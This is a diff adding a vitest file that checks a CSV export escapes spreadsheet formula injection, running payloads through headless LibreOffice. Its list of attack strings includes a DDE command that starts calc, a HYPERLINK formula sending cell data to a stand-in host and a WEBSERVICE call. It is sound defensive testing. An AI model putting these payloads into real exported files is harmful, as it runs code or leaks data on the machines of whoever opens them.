@@ -1,0 +1,92 @@
+import { execFile } from 'node:child_process'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { promisify } from 'node:util'
+import { expect, test } from 'vitest'
+import { BYTE_ORDER_MARK, toCsvRow } from './csv.ts'
+
+test.each([
+  ['plain', '"plain"'],
+  ['say "hi", now', '"say ""hi"", now"'],
+  ['two\nlines', '"two\nlines"'],
+  ['=1+1', `"'=1+1"`],
+  ['+1 312 555 0199', `"'+1 312 555 0199"`],
+  ['-2', `"'-2"`],
+  ['@SUM(1)', `"'@SUM(1)"`],
+  ['＝1+1', `"'＝1+1"`],
+  ['\t=1', `"'\t'=1"`],
+  ['\rx', `"'\rx"`],
+  ['a;=1', `"a;'=1"`],
+  ['a\n "=1', `"a\n ""'=1"`],
+  ['0312', `"'0312"`],
+  ['a-b =c', '"a-b =c"'],
+])('%j is written as %s', (text, cell) => {
+  expect(toCsvRow([text])).toBe(`${cell}\r\n`)
+})
+
+// Whoever writes such a field hopes for one of these: a program started, a file or an address read, data sent away.
+const attacks = [
+  `=cmd|' /C calc'!A0`,
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '=HYPERLINK("http://a.example?x="&A1,"click")',
+  '=WEBSERVICE("http://a.example")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '"=1+1',
+  '";=1+1;"',
+  '","=1+1","',
+  'a;=1+1',
+  'a;"=1+1',
+  'a\n=1+1;=1+1',
+  'a\r\n=1+1',
+  'a\t=1+1\t',
+  "'=1+1",
+  '＝1+1',
+]
+const soffice = await promisify(execFile)('soffice', ['--version']).then(
+  () => 'soffice',
+  () => undefined,
+)
+
+/** What LibreOffice makes of a CSV file: every formula in it, when cells end at the separator. */
+async function formulasIn(csv: string, separator: string) {
+  const folder = mkdtempSync(join(tmpdir(), 'plumbline-'))
+  try {
+    writeFileSync(join(folder, 'leads.csv'), csv)
+    await promisify(execFile)('soffice', [
+      `-env:UserInstallation=file://${folder}/profile`,
+      '--headless',
+      // Separator, text delimiter, UTF-8, from the first line on.
+      `--infilter=CSV:${separator.charCodeAt(0)},34,76,1`,
+      ...['--convert-to', 'fods', '--outdir', folder, join(folder, 'leads.csv')],
+    ])
+    const sheet = readFileSync(join(folder, 'leads.fods'), 'utf8')
+    return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula)
+  } finally {
+    rmSync(folder, { recursive: true })
+  }
+}
+
+test.skipIf(!soffice)(
+  'LibreOffice runs no formula, whichever separator it takes (skipped without soffice)',
+  { timeout: 60_000 },
+  async () => {
+    const rows = attacks.map((attack) => ['before', attack, `x${attack}`, attack, 'after'])
+    const safe = BYTE_ORDER_MARK + rows.map(toCsvRow).join('')
+    const naive = rows
+      .map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`)
+      .join('')
+
+    for (const separator of [',', ';', '\t']) {
+      expect(await formulasIn(safe, separator), separator).toEqual([])
+      // The same fields as they came: were none run, this would test nothing.
+      expect((await formulasIn(naive, separator)).length, separator).toBeGreaterThan(0)
+    }
+  },
+)
